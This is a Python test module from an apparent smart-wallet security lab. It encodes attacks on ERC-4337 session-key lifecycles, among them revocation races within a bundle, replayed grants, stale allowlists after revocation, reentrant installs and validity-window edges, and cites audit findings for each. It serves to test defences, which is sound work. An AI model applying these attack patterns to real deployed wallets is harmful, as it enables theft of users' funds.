"""Attacks on the session lifecycle: install, revocation, and state that revocation leaves behind."""

from __future__ import annotations

from sessionlab.attacks.attack import attack
from sessionlab.attacks.attack_lab import (
    COUNTER,
    INCREMENT,
    MERCHANT,
    OTHER_SESSION,
    OWNER,
    SESSION,
    STRANGER,
    TOKEN,
    WALLET,
    AttackLab,
    ask,
    left,
)
from sessionlab.attacks.gains import counts, owner, root, units, wei
from sessionlab.attacks.operations import act, deferred_operation, install, operation, revoke, send, signed
from sessionlab.core.contracts.artifacts import artifact
from sessionlab.core.erc4337 import wallet_encoding as account
from sessionlab.core.erc4337.call import Call
from sessionlab.core.permissions import (
    ContractAccess,
    Erc20TokenTransfer,
    FunctionsOnContract,
    GasLimit,
    NativeTokenTransfer,
    Root,
    rows,
)
from sessionlab.core.permissions.limits import LimitKind

KEY = "the session key"
ACCESS = ContractAccess(address=COUNTER)
COINS = Erc20TokenTransfer(address=TOKEN, allowance=50)
ETHERS = NativeTokenTransfer(allowance=10)
PING = [Call(COUNTER, data=INCREMENT)]


def coins(amount: int) -> Call:
    """Return a token transfer to the attacker."""
    return Call(TOKEN, data=artifact("Token").encode("transfer", STRANGER.address, amount))


@attack("life", holds=KEY, gain="an operation after the end", source="the rule itself")
def revoked_key(lab: AttackLab) -> str:
    """The owner revokes; the key goes on."""
    install(lab, [ACCESS])
    revoke(lab)
    act(lab, PING)
    return counts(lab)


@attack("life", holds=KEY, gain="an operation after the end", source="ERC-4337: what was signed stays signed")
def revoke_race(lab: AttackLab) -> str:
    """Signed before the revocation, mined after it; and in one bundle behind the owner's revocation."""
    for entity, key in ((1, SESSION), (2, OTHER_SESSION)):
        install(lab, [ACCESS], entity=entity, key=key)
        early = signed(lab, operation(lab, PING, entity=entity), key)
        ending = signed(lab, operation(lab, account.uninstall_call(entity), entity=0), OWNER)
        bundles = ([ending], [early]) if entity == 1 else ([ending, early],)
        for bundle in bundles:
            send(lab, *bundle)
    return counts(lab)


@attack(
    "life",
    holds="a root key and a bundler",
    gain="the wallet, by a key that has ended",
    source="ERC-4337: validated before",
    part_of="revoke-race",
)
def revoked_owner_maker(lab: AttackLab) -> str:
    """One bundle: the owner revokes, then the key names another owner, by a function of the wallet itself."""
    install(lab, [Root()])
    ending = signed(lab, operation(lab, account.uninstall_call(1), entity=0), OWNER)
    take = artifact("SessionWallet").encode("updateFallbackSignerData", STRANGER.address, False)
    send(lab, ending, signed(lab, operation(lab, take), SESSION))
    return owner(lab)


@attack("life", holds=f"{KEY} and a bundler", gain="1 ether, where 10 wei was granted", source="found here")
def revoked_in_the_bundle(lab: AttackLab) -> str:
    """One bundle: the owner revokes, then the key spends. Both are validated before the first one runs."""
    install(lab, [ETHERS])
    ending = signed(lab, operation(lab, account.uninstall_call(1), entity=0), OWNER)
    send(lab, ending, signed(lab, operation(lab, [Call(MERCHANT, value=10**18)]), SESSION))
    return wei(lab, MERCHANT)


@attack(
    "life",
    holds="the first grant, never used",
    gain="a session that was revoked",
    source="SmartSession 3.1.2",
    part_of="deferred-replay",
)
def revoked_before_use(lab: AttackLab) -> str:
    """A signed grant is revoked before its first use, which installs it: the first use comes all the same."""
    op = deferred_operation(lab, rows([ACCESS]), PING)
    revoke(lab, with_hook_data=False)  # as clients do when no hook is installed
    send(lab, op)
    return counts(lab)


@attack(
    "life",
    holds="the key of the next session",
    gain="what the session before could reach",
    source="measured on production; ChainLight CL-003, Openfort OF-3",
    passes=("deployed",),
)
def stale_allowlist(lab: AttackLab) -> str:
    """Revoked without hook data, the lists stay: a narrower session under the same id inherits them."""
    install(lab, [ACCESS])
    revoke(lab, with_hook_data=False)
    install(lab, [COINS], generation=1)
    act(lab, PING)
    return counts(lab)


@attack("life", holds="the key of the next session", gain="what was revoked", source="SmartSession 3.1.5, high")
def partial_removal(lab: AttackLab) -> str:
    """Twenty lists are revoked with hook data: a loop that skips elements leaves some."""
    targets = [f"0x{number:040x}" for number in range(0xA000, 0xA012)]
    wide = [ContractAccess(address=target) for target in targets]
    install(lab, [*wide, ACCESS, FunctionsOnContract(address=TOKEN, functions=["transfer(address,uint256)"])])
    revoke(lab)
    install(lab, [ContractAccess(address=MERCHANT)], generation=1)
    reached = sum(act(lab, [Call(target)]).phase == "ok" for target in targets)
    act(lab, PING)
    act(lab, [coins(50)])
    return counts(lab) or units(lab) or (f"{reached} contracts" if reached else "")


@attack("life", holds=KEY, gain="a second allowance", source="Sequence v3 audit, SEQ-2")
def refill(lab: AttackLab) -> str:
    """The same signed grant is sent again after the allowance is used up."""
    first = deferred_operation(lab, rows([COINS, ETHERS]), [coins(50)], wrapped=True)
    send(lab, first)
    send(lab, first)
    again = deferred_operation(lab, rows([COINS, ETHERS]), [coins(50)], wrapped=True)
    send(lab, again)
    act(lab, [coins(50)])
    return units(lab, more_than=50)


@attack("life", holds=KEY, gain="limits of its own making", source="Porto account history")
def edit_own_limits(lab: AttackLab) -> str:
    """In one batch the session installs a wider one under its own id, or under another, and spends."""
    install(lab, [COINS, ACCESS])
    wider = [account.install_call(entity_id=i, key=SESSION.address, rows=rows([Root()])) for i in (1, 9)]
    for call in wider:
        act(lab, [Call(WALLET, data=call), coins(51)])
        act(lab, [*PING, Call(WALLET, data=call)])
        act(lab, call)
    act(lab, [Call(WALLET, data=account.uninstall_call(1)), coins(51)])
    return root(lab) or units(lab, more_than=50)


@attack("life", holds="the key of a second session", gain="another session's id", source="the rule itself")
def install_over_a_live_one(lab: AttackLab) -> str:
    """A live session's id is given to another key."""
    install(lab, [ACCESS])
    install(lab, [ACCESS], key=OTHER_SESSION)
    act(lab, PING, key=OTHER_SESSION)
    return counts(lab)


@attack("life", holds="no key at all", gain="the owner's nonce key", source="the rule itself")
def session_of_id_zero(lab: AttackLab) -> str:
    """A session is installed under id 0, where the owner validates."""
    install(lab, [Root()], entity=0, key=SESSION)
    made = ask(lab, "SessionWallet", WALLET, "session", 0)
    return "" if int(made[0], 16) == 0 else "a session with the owner's nonce key"


@attack("life", holds="a contract that calls back", gain="a session without limits", source="SmartSession, RN1 H-1")
def reentrant_install(lab: AttackLab) -> str:
    """A session is used before its limits are set: within the operation that installs it."""
    inside = Call(WALLET, data=account.execute(coins(51), wrapped=False))
    for calls in ([coins(51)], [inside], [coins(25), coins(26)]):
        send(lab, deferred_operation(lab, rows([COINS]), calls, wrapped=True))
    return units(lab, more_than=50)


@attack("life", holds="the owner's trust", gain="a session too large to remove", source="MetaMask, Cyfrin 7.4.3")
def storage_bloat(lab: AttackLab) -> str:
    """Ten thousand rows in one grant."""
    outcome = install(lab, given=list(rows([GasLimit(limit=1)])) * 10_000)
    live = ask(lab, "SessionWallet", WALLET, "session", 1)[0]
    bound = 256
    return f"more than {bound} rows" if outcome.phase == "ok" or int(live, 16) else ""


@attack("life", holds=KEY, gain="an operation after the last second", source="SmartSession audit, Cantina 3.1.1, high")
def window_edge(lab: AttackLab) -> str:
    """One second before the session begins, and one second after it has ended."""
    now = lab.chain.now
    install(lab, [ACCESS], valid_after=now + 10, valid_until=now + 20)
    lab.chain.travel_to(now + 9)
    act(lab, PING)
    lab.chain.travel_to(now + 21)
    act(lab, PING)
    return counts(lab)


@attack(
    "life", holds="a grant whose window is empty", gain="a session that ends before it begins", source="Cantina 3.1.1"
)
def inverted_window(lab: AttackLab) -> str:
    """valid_after is not before valid_until."""
    now = lab.chain.now
    for begin, end in ((now, now), (now + 10, now + 9)):
        install(lab, [ACCESS], valid_after=begin, valid_until=end)
        act(lab, PING)
    return counts(lab) or wei(lab, COUNTER) or ("an allowance" if left(lab, LimitKind.NATIVE) else "")
